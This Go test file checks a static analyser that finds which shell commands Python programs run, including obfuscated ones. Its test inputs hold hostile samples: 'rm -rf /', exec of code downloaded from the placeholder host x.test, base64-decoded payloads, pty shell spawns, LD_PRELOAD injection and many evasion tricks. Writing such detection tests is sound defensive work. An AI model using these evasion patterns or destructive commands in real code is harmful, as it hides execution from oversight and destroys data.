package facts

import (
	"slices"
	"strings"
	"testing"
)

// homePlace is where the programs of these tests run.
var homePlace = Place{Workdir: "/workspace", Home: "/home/agent"}

func TestOrdinaryProgramsHideNothing(t *testing.T) {
	t.Parallel()
	for name, source := range map[string]string{
		"an empty program": "",
		"only a comment":   "# nothing\n",
		"reading JSON":     "import json\nwith open('data.json') as f:\n    d = json.load(f)\nprint(d['a'], len(d))\n",
		"a table": "import csv, math\nrows = list(csv.DictReader(open('x.csv')))\nprint(sum(float(r['v']) for r in " +
			"rows) / max(1, len(rows)), math.pi)\n",
		"pandas": "import pandas as pd\ndf = pd.read_csv('a.csv')\ndf['b'] = df.a.apply(lambda x: x * 2)\n" +
			"print(df.groupby('b').mean().head())\ndf.to_csv('out.csv')\n",
		"an API call": "import requests\nr = requests.get('https://api.test/v1/items', params={'q': 'x'}, timeout=10)\n" +
			"r.raise_for_status()\nfor item in r.json()['items']:\n    print(item['name'])\n",
		"git status": "import subprocess\nout = subprocess.run(['git', 'status'], capture_output=True, text=True, " +
			"check=True).stdout\nprint(out)\n",
		"a commit with a message": "import subprocess, sys\nmsg = sys.argv[1]\nsubprocess.run(['git', 'commit', '-m', msg])\n",
		"a function around a shell": "import subprocess\ndef run(cmd, check=True):\n    print('+', cmd)\n" +
			"    return subprocess.run(cmd, shell=True, check=check)\nrun('git status')\nrun('make test', check=False)\n",
		"a chain of functions": "import os\ndef a(x): return b(x)\ndef b(y): return os.system(y)\na('ls')\n",
		"a class around a shell": "import subprocess\nclass Runner:\n    def __init__(self, cwd):\n        self.cwd = cwd\n" +
			"    def run(self, *args):\n        return self.sh(['git', 'status'])\n    def sh(self, cmd):\n" +
			"        return subprocess.check_output(cmd, cwd=self.cwd)\nRunner('/workspace').run()\n",
		"a command in parts": "import subprocess\ncmd = ['git', 'log']\nif len(cmd) > 1:\n    cmd.append('--oneline')\n" +
			"cmd += ['-n', str(5)]\nsubprocess.run(cmd)\n",
		"a text in parts": "import os\ncmd = 'ls'\ncmd += ' -l'\nos.system(cmd)\n",
		"files in a loop": "import subprocess\nfor f in ['a.py', 'b.py']:\n    subprocess.run(['python3', '-m', " +
			"'py_compile', f])\n",
		"a class of data": "from dataclasses import dataclass\n@dataclass\nclass P:\n    x: int = 0\n" +
			"    def dist(self) -> float:\n        return abs(self.x)\nprint(P(3).dist())\n",
		"the newest syntax": "import g, h, k\nx, d = {}, {}\nmatch x:\n    case {'a': [1, *rest]} if rest:\n" +
			"        print(f'{rest!r:>{10}} {x=}')\n    case _:\n        pass\ntype A = int\nasync def f():\n" +
			"    async with g() as h, k():\n        await h\n    return [y async for y in h]\nprint(f\"{d[\"k\"]}\")\n" +
			"if (n := 3) > 2: print(n)\nwith (open('a') as f, open('b') as g):\n    pass\ndef q(a, /, b, *, c=1, **k): yield from a\n",
		"text about a command": "print('never run rm -rf / or os.system(x)')\n",
		"an unused function":   "import os\ndef run(cmd):\n    os.system(cmd)\n",
		"eval of a literal":    "print(eval('1 + 2'))",
		"regular expressions":  "import re\np = re.compile(r'\\d+')\nprint(p.findall('a1'))\n",
		"the environment's copy": "import os, subprocess\nenv = os.environ.copy()\nenv['A'] = 'b'\n" +
			"subprocess.run(['make'], env=env)\nsubprocess.run(['make'], env={**os.environ, 'B': 'c'})\n",
		"an attribute by name": "class C:\n    a = 1\nfor k in ('a',):\n    print(getattr(C(), k, None))\n",
		"the interpreter":      "import sys, subprocess\nsubprocess.run([sys.executable, '-m', 'pytest', '-q'])\n",
		"temporary files": "import tempfile, os\nwith tempfile.TemporaryDirectory() as d:\n    p = os.path.join(d, 'x')\n" +
			"    open(p, 'w').write('a')\n    os.remove(p)\n",
		"a web server": "from http.server import BaseHTTPRequestHandler, HTTPServer\nclass H(BaseHTTPRequestHandler):\n" +
			"    def do_GET(self):\n        self.send_response(200)\nHTTPServer(('127.0.0.1', 8000), H).serve_forever()\n",
		"arguments": "import argparse\np = argparse.ArgumentParser()\np.add_argument('--n', type=int, default=1)\n" +
			"args = p.parse_args()\nprint(args.n)\n",
		"threads": "from concurrent.futures import ThreadPoolExecutor\ndef f(x): return x * x\n" +
			"with ThreadPoolExecutor() as e:\n    print(list(e.map(f, range(9))))\n",
		"a main function": "import os, sys, logging\nlog = logging.getLogger(__name__)\nHERE = " +
			"os.path.dirname(os.path.abspath(__file__))\ndef main(argv=None):\n    os.makedirs(os.path.join(HERE, 'out'), " +
			"exist_ok=True)\n    for root, dirs, files in os.walk(HERE):\n        for f in files:\n            log.info('%s', " +
			"os.path.join(root, f))\n    return 0\nif __name__ == '__main__':\n    sys.exit(main())\n",
		"subcommands": "import argparse, subprocess\ndef build(args):\n    subprocess.check_call(['make', '-j', " +
			"str(args.jobs)] + args.targets)\np = argparse.ArgumentParser()\ns = p.add_subparsers()\nb = s.add_parser('build')\n" +
			"b.set_defaults(func=build)\nargs = p.parse_args()\nargs.func(args)\n",
		"paths": "from pathlib import Path\nfor p in sorted(Path('src').rglob('*.py')):\n    t = p.read_text()\n" +
			"    p.write_text(t.replace('a', 'b'))\n",
		"a database": "import sqlite3\nc = sqlite3.connect('x.db')\nc.execute('select 1')\nprint(c.fetchall())\n",
		"enumerations": "from enum import Enum\nfrom typing import Optional\nclass C(Enum):\n    A = 1\n" +
			"def f(x: Optional[C] = None) -> dict[str, int]:\n    return {k: v for k, v in zip('ab', [1, 2]) if v}\nprint(f(C.A))\n",
		"tests": "import unittest\nclass T(unittest.TestCase):\n    def test_a(self):\n" +
			"        self.assertEqual(1, 1)\nunittest.main()\n",
		"asynchronous work": "import asyncio\nasync def main():\n    p = await asyncio.create_subprocess_exec('git', " +
			"'status', stdout=asyncio.subprocess.PIPE)\n    out, _ = await p.communicate()\n    print(out.decode())\nasyncio.run(main())\n",
		"a retried command": "import subprocess, time\ndef sh(*cmd):\n    for i in range(3):\n        try:\n" +
			"            return subprocess.run(['git', 'fetch'], check=True, timeout=60)\n        except " +
			"subprocess.CalledProcessError as e:\n            print(e.stderr)\n            time.sleep(i)\n    raise SystemExit(1)\nsh()\n",
		"a list that a loop grows": "import subprocess\ncmd = ['git', 'add']\nfor f in open('list').read().splitlines():\n" +
			"    cmd.append(f)\nsubprocess.run(cmd, check=True)\n",
		"words of a list": "import subprocess\nsubprocess.run('git status'.split(), check=True)\n",
		"a table of environment": "import os\nkey = os.environ.get('API_KEY') or os.environ['OTHER']\nif not key:\n" +
			"    raise RuntimeError('no key')\n",
		"starred arguments": "import subprocess\ndef git(*args):\n    return subprocess.run(['git', *args], " +
			"capture_output=True).stdout\nprint(git('log', '-1'), git('status'))\n",
		"a pattern of words": "import shlex, subprocess\nsubprocess.run(shlex.split('git log --oneline'))\n",
	} {
		t.Run(name, func(t *testing.T) {
			c := Python(source, homePlace)
			if !c.Parsed || !c.Complete {
				t.Errorf("parsed %v, complete %v, features %v, command %+v", c.Parsed, c.Complete, c.Features, c.Command)
			}
			if slices.Contains(c.Variables, "*") {
				t.Errorf("reads the whole environment")
			}
		})
	}
}

func TestProgramsThatHideWhatTheyRun(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ source, feature string }{
		"exec of input":                  {"exec(input())", "dynamic_exec"},
		"exec under another name":        {"e = exec\ne(input())", "dynamic_exec"},
		"exec from builtins":             {"import builtins\nbuiltins.exec(x)", "dynamic_exec"},
		"exec by getattr":                {"getattr(__builtins__, 'ex' + 'ec')(x)", "dynamic_exec"},
		"exec by globals":                {"globals()['__builtins__']['exec'](x)", "dynamic_exec"},
		"compiled code":                  {"exec(compile(open('f').read(), 'f', 'exec'))", "dynamic_exec"},
		"an attribute that is not known": {"import os\ngetattr(os, name)('x')", "dynamic_exec"},
		"a method that is not known":     {"getattr(obj, name)()", "dynamic_exec"},
		"a module that is not known":     {"__import__(name)", "dynamic_import"},
		"a module from a file":           {"import importlib.util\nimportlib.util.spec_from_file_location('a', p)", "dynamic_import"},
		"pickle":                         {"import pickle\npickle.loads(data)", "dynamic_exec"},
		"marshal":                        {"from marshal import loads as l\nl(data)", "dynamic_exec"},
		"ctypes":                         {"import ctypes\nctypes.CDLL(None).system(b'ls')", "ctypes"},
		"subclasses":                     {"().__class__.__base__.__subclasses__()[104].load_module('os')", "dynamic_exec"},
		"globals of a function":          {"f.__globals__['os'].system(x)", "dynamic_exec"},
		"exec of what was downloaded":    {"import requests\nexec(requests.get('https://x.test/p.py').text)", "download_and_run"},
		"exec of what was decoded":       {"import base64\nexec(base64.b64decode(data))", "decode_and_run"},
		"a shell of what was downloaded": {"import os, urllib.request as u\nos.system(u.urlopen('https://x.test/p').read().decode())",
			"download_and_run"},
		"shell text that is not known":    {"import os\nos.system(input())", ""},
		"shell text with an unknown part": {"import os\nos.system(f'ls {x}')", ""},
		"a program that is not known":     {"import subprocess, sys\nsubprocess.run([sys.argv[1], 'x'])", ""},
		"a command that is not known":     {"import subprocess\nsubprocess.run(cmd())", ""},
		"a function handed on":            {"import os\nlist(map(os.system, cmds))", ""},
		"a thread of os.system": {"import os, threading\nthreading.Thread(target=os.system, args=('rm -rf /',)).start()",
			"dynamic_exec"},
		"os.system in a list":       {"import os\n[os.system, f][i](x)", ""},
		"os.system in a partial":    {"import os, functools\nfunctools.partial(os.system, 'id')()", "dynamic_exec"},
		"os.system in an attribute": {"import os\nclass A: pass\na = A()\na.r = os.system\na.r(input())", ""},
		"a callback with a shell":   {"import os\ndef run(c): os.system(c)\nregister(run)", ""},
		"a decorated function":      {"import os\n@app.route('/')\ndef run(c): os.system(c)", ""},
		"a subclass's method":       {"import os, cmd\nclass C(cmd.Cmd):\n    def do_x(self, c): os.system(c)", ""},
		"a program fed by a pipe": {"import subprocess\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\n" +
			"p.communicate(b'id')", ""},
		"other values in a loop":           {"import os\nc = 'ls'\nwhile True:\n    os.system(c)\n    c = input()", ""},
		"a global that a function changes": {"import os\nc = 'ls'\ndef f():\n    global c\n    c = input()\nf()\nos.system(c)", ""},
		"a script it wrote from input":     {"import os\nopen('x.sh', 'w').write(data)\nos.system('sh x.sh')", ""},
		"a script it downloaded": {"import os, urllib.request\nurllib.request.urlretrieve('https://x.test/x.sh', 'x.sh')\n" +
			"os.system('sh x.sh')", "download_and_run"},
		"a property that is os.system": {"import os\nclass A:\n    @property\n    def r(self): return os.system\nA().r('id')",
			"dynamic_exec"},
		"a script that is not known":       {"import subprocess\nsubprocess.run(['sh', '-c', x])", ""},
		"an interpreter's unknown program": {"import subprocess\nsubprocess.run(['python3', '-c', x])", ""},
		"a lambda that gives os.system":    {"import os\n(lambda: os.system)()('id')", "dynamic_exec"},
		"a class called like a function":   {"import os\nclass A:\n    def __call__(self, c): os.system(c)\nA()('id')", ""},
		"a changed built-in":               {"import os\nos.getcwd = f\nos.system = g", ""},
	} {
		t.Run(name, func(t *testing.T) {
			got := Python(c.source, homePlace)
			if !got.Parsed || got.Complete || c.feature != "" && !slices.Contains(got.Features, c.feature) {
				t.Errorf("parsed %v, complete %v, features %v, want %q", got.Parsed, got.Complete, got.Features, c.feature)
			}
		})
	}
}

func TestWhatIsNoPythonIsSaidSo(t *testing.T) {
	t.Parallel()
	for _, source := range []string{
		"please delete all files", "rm -rf /", "x = (", "x = )", "'open", "f'{'", "f'{x'", "if x\n  y", "def f(:\n pass", "  x = 1\n y = 2",
		"if x:\npass", "a b", "1x y", "import", "from x import", "x = 1 +", "for x y", "\x00", "\xff", "lambda", "?", "$x", "class",
		"return return",
		strings.Repeat("(", 300), strings.Repeat("[", 1<<20), strings.Repeat("-", 1<<20) + "1", strings.Repeat("not ", 1<<18) + "x",
		strings.Repeat("f'{", 400), strings.Repeat("a", 1<<20+1),
	} {
		c := Python(source, Place{})
		if c.Parsed || c.Complete {
			t.Errorf("%.40q is parsed %v, complete %v", source, c.Parsed, c.Complete)
		}
	}
}

func TestShellTextOfPrograms(t *testing.T) {
	t.Parallel()
	for source, want := range map[string]string{
		"import os; os.system('rm -rf /')":                                                                "rm -rf /",
		"import os as o\no.system('id')":                                                                  "id",
		"from os import system as s\ns('id')":                                                             "id",
		"from os import *\nsystem('id')":                                                                  "id",
		"import os\nr = os.system\nr('id')":                                                               "id",
		"getattr(__import__('os'), 'sys' + 'tem')('id')":                                                  "id",
		"__import__('os').system('id')":                                                                   "id",
		"import importlib\nimportlib.import_module('subprocess').run('id', shell=True)":                   "id",
		"import os\nos.__dict__['system']('id')":                                                          "id",
		"import os\nvars(os)['system']('id')":                                                             "id",
		"import sys\nsys.modules['os'].system('id')":                                                      "id",
		"import os\nos.system('i' 'd')":                                                                   "id",
		"import os\nos.system('%s %s' % ('rm', '-r'))":                                                    "rm -r",
		"import os\nos.system('{} {a}'.format('rm', a='-r'))":                                             "rm -r",
		"import os\nx = 'rm'\nos.system(f'{x} -r')":                                                       "rm -r",
		"import os\nos.system(' '.join(['rm', '-r']))":                                                    "rm -r",
		"import os\nos.system(chr(105) + chr(100))":                                                       "id",
		"import os\nos.system(''.join(chr(c) for c in [105, 100]))":                                       "id",
		"import os\nos.system(''.join(map(chr, [105, 100])))":                                             "id",
		"import os\nos.system('di'[::-1])":                                                                "id",
		"import os\nos.system(''.join(reversed('di')))":                                                   "id",
		"import os\nos.system(bytes.fromhex('6964').decode())":                                            "id",
		"import os\nos.system(bytes([105, 100]).decode())":                                                "id",
		"import os, base64\nos.system(base64.b64decode('aWQ=').decode())":                                 "id",
		"import os, codecs\nos.system(codecs.decode('vq', 'rot13'))":                                      "id",
		"exec('import os; os.system(\"id\")')":                                                            "id",
		"exec(\"exec('import os; os.system(chr(105)+chr(100))')\")":                                       "id",
		"import os\n\uff4fs.system('id')":                                                                 "id",
		"import os\nos.popen('id').read()":                                                                "id",
		"import subprocess\nsubprocess.run('id')":                                                         "id",
		"import subprocess\nsubprocess.run('ls -l')":                                                      "'ls -l'",
		"import subprocess\nsubprocess.run('ls -l', shell=True)":                                          "ls -l",
		"import subprocess\nsubprocess.run('ls -l', **{'shell': True})":                                   "ls -l",
		"import subprocess\nsubprocess.run(['rm', '*.txt', \"it's\"])":                                    `rm '*.txt' 'it'\''s'`,
		"import subprocess\nsubprocess.run(args=['id'])":                                                  "id",
		"import subprocess as s\ns.Popen(('sh', '-c', 'id'))":                                             "sh -c id",
		"import subprocess\nsubprocess.run(['git', 'commit', '-m', msg()])":                               `git commit -m "$msg"`,
		"import subprocess\nfor m in x:\n    subprocess.run(['git', 'add', m])":                           `git add "$m"`,
		"import subprocess\nsubprocess.run(['git', *['add', '.']])":                                       "git add .",
		"import subprocess\nsubprocess.run(['bash'], input='id', text=True)":                              "bash <<< id",
		"import subprocess\nsubprocess.run(['id'], env={'LD_PRELOAD': './x.so'})":                         "LD_PRELOAD=./x.so id",
		"import os\nos.execvp('ls', ['ls', '-l'])":                                                        "ls -l",
		"import os\nos.execl('/bin/sh', 'sh', '-c', 'id')":                                                "/bin/sh -c id",
		"import os\nos.spawnlp(os.P_WAIT, 'rm', 'rm', '-r', 'x')":                                         "rm -r x",
		"import pty\npty.spawn('/bin/sh')":                                                                "/bin/sh",
		"import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))":                              "id",
		"import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('id', '-u')\n":          "id -u",
		"import os\nc = 'ls'\nif x:\n    c = 'rm -r x'\nos.system(c)":                                     "ls\nrm -r x",
		"import os\nc = 'rm -r x'\nif x: c = 'ls'\nos.system(c)":                                          "rm -r x\nls",
		"import os\nd = {'a': 'id', 'b': 'ls'}\nos.system(d['b'])":                                        "ls",
		"import os\nos.system('cd / ')\nos.system('rm -rf *')":                                            "cd / \nrm -rf *",
		"import os\nopen('x.sh', 'w').write('id -u')\nos.system('sh x.sh')":                               "sh x.sh\nid -u",
		"import os\nt = os.environ['T']\nos.system('echo ' + t)":                                          "echo $T",
		"import os\ndef f():\n    return 'id'\nos.system(f())":                                            "id",
		"import os\nf = lambda: os.system('id')\nf()":                                                     "id",
		"import os\n[os.system(c) for c in ('id', 'ls')]":                                                 "id\nls",
		"import os\nif (c := 'id'): os.system(c)":                                                         "id",
		"import os\na, b = 'id', 'ls'\nos.system(b)":                                                      "ls",
		"import os\nos.system.__call__('id')":                                                             "id",
		"import posix\nposix.system('id')":                                                                "id",
		"import os\nclass A:\n    r = os.system\nA.r('id')":                                               "id",
		"import os\nclass A:\n    r = os.system\nA().r('id')":                                             "id",
		"import os\neval('os.system')('id')":                                                              "id",
		"import os\nfor f in (os.system,): f('id')":                                                       "id",
		"import os\ndef f(): return os.system\nf()('id')":                                                 "id",
		"import subprocess\ndef git(*a):\n    subprocess.run(['git', *a])\ngit('push', '-f')\ngit('log')": "git push -f\ngit log",
		"import subprocess\ndef sh(*a, **k):\n    subprocess.run(a, **k)\nsh('rm', '-r', x)":              `rm -r "$x"`,
		"import shutil\nprint(shutil.which('git'))":                                                       "",
	} {
		c := Python(source, homePlace)
		got := ""
		if c.Command != nil {
			got = c.Command.Text
		}
		if got != want || !c.Parsed {
			t.Errorf("%q gives\n%q, want\n%q (parsed %v, features %v)", source, got, want, c.Parsed, c.Features)
		}
	}
}

// TestAProgramThatUsesWhatAnEarlierOneSetHidesItsMeaning: programs of one session run in one interpreter, one after another.
func TestAProgramThatUsesWhatAnEarlierOneSetHidesItsMeaning(t *testing.T) {
	t.Parallel()
	for name, source := range map[string]string{
		"a function":             "f('rm -rf /')",
		"a value":                "import os\nos.system('ls')\nprint(x)",
		"an alias of its module": "sh.rmtree('build')",
		"in a function":          "def g():\n    return f(1)\n",
		"in a text":              "print(f'{x}')",
		"a class to build upon":  "class C(Base):\n    pass\n",
	} {
		if Python(source, homePlace).Complete {
			t.Errorf("%s: the program counts as complete", name)
		}
	}
	for name, source := range map[string]string{
		"bound later": "def g():\n    return f(1)\ndef f(x): return x\ng()\n",
		"bound as it goes": "import a.b as c\nfrom d import e\nwith open('f') as g:\n    for h in g:\n" +
			"        print([i for i in h if (j := i)], j, lambda k: k, c, e)\ntry: pass\nexcept OSError as l: print(l)\n",
		"known to Python":      "print(len(sorted({**{}})), __name__, NotImplemented, Exception, exit)",
		"known in a class":     "class C:\n    a = __qualname__\n    def f(self): return __class__, super().f()\n",
		"brought by a module":  "from math import *\nprint(sqrt(2))",
		"of the whole program": "def f():\n    global n\n    n = 1\ndef g(): return n\nf()\nprint(g())\n",
	} {
		if !Python(source, homePlace).Complete {
			t.Errorf("%s: the program counts as incomplete", name)
		}
	}
}
